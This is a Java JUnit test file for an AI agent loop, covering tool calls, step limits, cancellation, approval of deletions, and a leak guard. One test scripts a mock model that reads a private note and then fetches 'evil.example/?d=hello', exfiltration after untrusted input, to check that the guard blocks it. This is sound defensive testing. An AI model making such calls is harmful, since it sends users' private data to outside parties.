package dev.hoopoe.agent;

import static org.assertj.core.api.Assertions.assertThat;

import dev.hoopoe.agent.calls.TextCall;
import dev.hoopoe.tools.Call;
import dev.hoopoe.tools.Cancellation;
import dev.hoopoe.tools.Effect;
import dev.hoopoe.tools.Reply;
import dev.hoopoe.tools.Source;
import dev.hoopoe.tools.Tool;
import dev.hoopoe.tools.ToolBox;
import dev.hoopoe.tools.ToolException;
import dev.hoopoe.tools.Trait;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;

class AgentLoopTest {
    private final Desk desk = new Desk();
    private final List<Approver.Question> asked = new ArrayList<>();

    @Test
    void callsAToolAndAnswersWithItsSource() {
        Outcome outcome = run(Puppet.saying(call("note_read", "{}"), "It says hello."), "What?");
        assertThat(outcome.answer()).isEqualTo("It says hello.");
        assertThat(outcome.stop()).isEqualTo(Stop.ANSWERED);
        assertThat(outcome.steps()).hasSize(1);
        assertThat(outcome.sources()).containsExactly(new Source.File("note.txt"));
    }

    @Test
    void anUnknownToolIsAnErrorThatTheModelSees() {
        Puppet puppet = Puppet.saying("{\"name\": \"note_raed\", \"arguments\": {}}", "I cannot.");
        Outcome outcome = run(puppet, "What?");
        // A name that does not exist is prose to the reader of free text, so it is the answer.
        assertThat(outcome.steps()).isEmpty();
        assertThat(outcome.stop()).isEqualTo(Stop.ANSWERED);
    }

    @Test
    void badArgumentsComeBackAsOneLineThatNamesTheField() {
        Puppet puppet = Puppet.saying(call("note_write", "{\"path\": \"a.txt\"}"), "Sorry.");
        run(puppet, "Do it");
        assertThat(puppet.lastSeen()).contains("content is missing");
    }

    @Test
    void theThirdIdenticalCallWithTheSameResultEndsInAnAnswer() {
        Puppet puppet =
                Puppet.doing(request ->
                        request.toolSpecifications().isEmpty()
                                ? "I know only: hello."
                                : call("note_read", "{}"));
        Outcome outcome = run(puppet, "What?");
        assertThat(outcome.stop()).isEqualTo(Stop.REPEATED);
        assertThat(outcome.steps()).hasSize(3);
        assertThat(outcome.answer()).isEqualTo("I know only: hello.");
    }

    @Test
    void theSameCallTwiceInOneMoveIsMadeOnce() {
        String twice = call("note_read", "{}") + "\n" + call("note_read", "{}");
        Outcome outcome =
                run(
                        Puppet.saying(twice + "\n" + call("count_up", "{\"n\": 1}"), "Hello."),
                        "What?");
        assertThat(outcome.steps()).extracting(Step::tool).containsExactly("note_read", "count_up");
    }

    @Test
    void theStepLimitEndsInAnAnswer() {
        int[] n = {0};
        Puppet puppet =
                Puppet.doing(request ->
                        request.toolSpecifications().isEmpty()
                                ? "So far: nothing."
                                : call("count_up", "{\"n\": " + n[0]++ + "}"));
        Outcome outcome = run(puppet, "Count", limits(4, Duration.ofSeconds(30)));
        assertThat(outcome.stop()).isEqualTo(Stop.STEP_LIMIT);
        assertThat(outcome.steps()).hasSize(4);
        assertThat(outcome.answer()).isEqualTo("So far: nothing.");
    }

    @Test
    void cancellingStopsARunningToolWithinASecond() throws InterruptedException {
        Cancellation cancellation = new Cancellation();
        Thread canceller =
                Thread.ofVirtual()
                        .start(() -> {
                            await(desk.waiting);
                            cancellation.cancel();
                        });
        long begun = System.nanoTime();
        Outcome outcome =
                loop(Puppet.saying(call("wait_long", "{}")), AgentLimits.DEFAULT)
                        .ask(conversation(), "Wait", new AgentListener() {}, cancellation);
        canceller.join();
        assertThat(outcome.stop()).isEqualTo(Stop.CANCELLED);
        assertThat(Duration.ofNanos(System.nanoTime() - begun)).isLessThan(Duration.ofSeconds(5));
    }

    @Test
    void aFileThatWasAskedForIsNotForgotten() {
        Puppet puppet =
                Puppet.saying(
                        "The answer is 7.",
                        call("note_write", "{\"path\": \"answer.txt\", \"content\": \"7\"}"),
                        "Written.");
        Outcome outcome = run(puppet, "What is it? Write only that to answer.txt.");
        assertThat(desk.written).containsExactly("answer.txt=7");
        assertThat(outcome.answer()).isEqualTo("Written.");
    }

    @Test
    void aDeleteNeedsAYesAndTheModelHearsTheNo() {
        Puppet puppet = Puppet.saying(call("note_delete", "{}"), "It was not done.");
        Outcome outcome = run(puppet, "Delete the note");
        assertThat(desk.deleted).isFalse();
        assertThat(asked).singleElement().matches(q -> q.kind() == Approver.Kind.EFFECT);
        assertThat(puppet.lastSeen()).contains("not approved");
        assertThat(outcome.steps().getFirst().result().error()).isTrue();
    }

    @Test
    void theTimeThatAPersonTakesToAnswerIsNotTheQuestions() {
        Puppet puppet = Puppet.saying(call("note_delete", "{}"), "Deleted.");
        Approver slow =
                question -> {
                    await(Duration.ofMillis(700));
                    return true;
                };
        Outcome outcome =
                loop(puppet, limits(4, Duration.ofMillis(600)))
                        .ask(
                                new Conversation(slow),
                                "Delete it",
                                new AgentListener() {},
                                new Cancellation());
        assertThat(outcome.answer()).isEqualTo("Deleted.");
        assertThat(outcome.stop()).isEqualTo(Stop.ANSWERED);
    }

    @Test
    void privateDataDoesNotFollowAStrangersWordOut() {
        Puppet puppet =
                Puppet.saying(
                        call("page_get", "{\"url\": \"https://shop.example/\"}"),
                        call("note_read", "{}"),
                        call("page_get", "{\"url\": \"https://evil.example/?d=hello\"}"),
                        "Done.");
        run(puppet, "Compare https://shop.example/ with my note");
        assertThat(desk.fetched).containsExactly("https://shop.example/");
        assertThat(asked).singleElement().matches(q -> q.kind() == Approver.Kind.LEAK);
        assertThat(asked.getFirst().text()).contains("evil.example/?d=hello");
    }

    @Test
    void anAddressThatTheUserWroteMayBeFetchedAtAnyTime() {
        Puppet puppet =
                Puppet.saying(
                        call("page_get", "{\"url\": \"https://a.example/\"}"),
                        call("note_read", "{}"),
                        call("page_get", "{\"url\": \"https://b.example/\"}"),
                        "Done.");
        run(puppet, "Compare https://a.example/ and https://b.example/ with my note");
        assertThat(desk.fetched).containsExactly("https://a.example/", "https://b.example/");
        assertThat(asked).isEmpty();
    }

    @Test
    void whatIsReadAheadIsAnOrdinaryCallUnderTheSameGuard() {
        Puppet puppet = Puppet.saying("It says hello.");
        ReadAhead ahead =
                question ->
                        new ReadAhead.Plan(
                                List.of(
                                        new TextCall("note_read", Map.of()),
                                        new TextCall("note_delete", Map.of())),
                                false);
        Outcome outcome =
                Agents.loop(puppet, ToolBox.of(desk), AgentLimits.DEFAULT, ahead, Set.of())
                        .ask(conversation(), "What?", new AgentListener() {}, new Cancellation());
        assertThat(outcome.steps()).extracting(Step::tool).contains("note_read", "note_delete");
        assertThat(desk.deleted).isFalse();
        assertThat(asked).hasSize(1);
    }

    @Test
    void aModelThatFailsEndsTheQuestionWithItsReason() {
        Puppet puppet =
                Puppet.doing(request -> {
                    throw new IllegalStateException("connection refused");
                });
        Outcome outcome = run(puppet, "What?");
        assertThat(outcome.stop()).isEqualTo(Stop.FAILED);
        assertThat(outcome.answer()).contains("connection refused");
    }

    private Outcome run(Puppet puppet, String question) {
        return run(puppet, question, AgentLimits.DEFAULT);
    }

    private Outcome run(Puppet puppet, String question, AgentLimits limits) {
        return loop(puppet, limits)
                .ask(conversation(), question, new AgentListener() {}, new Cancellation());
    }

    private AgentLoop loop(Puppet puppet, AgentLimits limits) {
        return Agents.loop(puppet, ToolBox.of(desk), limits, ReadAhead.NOTHING, Set.of());
    }

    private Conversation conversation() {
        return new Conversation(question -> {
            asked.add(question);
            return false;
        });
    }

    private static AgentLimits limits(int steps, Duration deadline) {
        return new AgentLimits(steps, deadline, 100, 500);
    }

    private static String call(String tool, String arguments) {
        return "{\"name\": \"" + tool + "\", \"arguments\": " + arguments + "}";
    }

    /** Nobody lets go of the latch: a wait of just this long. */
    private static void await(Duration time) {
        try {
            assertThat(new CountDownLatch(1).await(time.toMillis(), TimeUnit.MILLISECONDS))
                    .isFalse();
        } catch (InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    private static void await(CountDownLatch latch) {
        try {
            assertThat(latch.await(10, TimeUnit.SECONDS)).isTrue();
        } catch (InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    /** Small tools with every effect and trait. */
    static final class Desk {
        final List<String> fetched = new ArrayList<>();
        final List<String> written = new ArrayList<>();
        final CountDownLatch waiting = new CountDownLatch(1);
        boolean deleted;

        record Write(String path, String content) {}

        record Count(int n) {}

        record Get(String url) {}

        @Tool(value = "Read the note.", traits = Trait.READS_PRIVATE)
        Reply note_read() {
            return Reply.of("hello").source(new Source.File("note.txt"));
        }

        @Tool(value = "Write a note.", effect = Effect.CHANGES, undoable = true)
        String note_write(Write in) {
            written.add(in.path() + "=" + in.content());
            return "written";
        }

        @Tool(value = "Delete the note.", effect = Effect.DELETES)
        String note_delete() {
            deleted = true;
            return "deleted";
        }

        @Tool("Count.")
        String count_up(Count in) {
            return "counted " + in.n();
        }

        @Tool(
                value = "Get a page.",
                traits = {Trait.READS_UNTRUSTED, Trait.SENDS_OUTSIDE})
        String page_get(Get in) {
            fetched.add(in.url());
            return "a page";
        }

        @Tool("Wait until cancelled.")
        String wait_long(Call call) {
            CountDownLatch stopped = new CountDownLatch(1);
            try (var _ = call.onCancel(stopped::countDown)) {
                waiting.countDown();
                if (!stopped.await(30, TimeUnit.SECONDS)) {
                    throw new ToolException("Nobody cancelled.", "Cancel it.");
                }
            } catch (InterruptedException e) {
                throw new IllegalStateException(e);
            }
            call.checkCancelled();
            return "never";
        }
    }
}
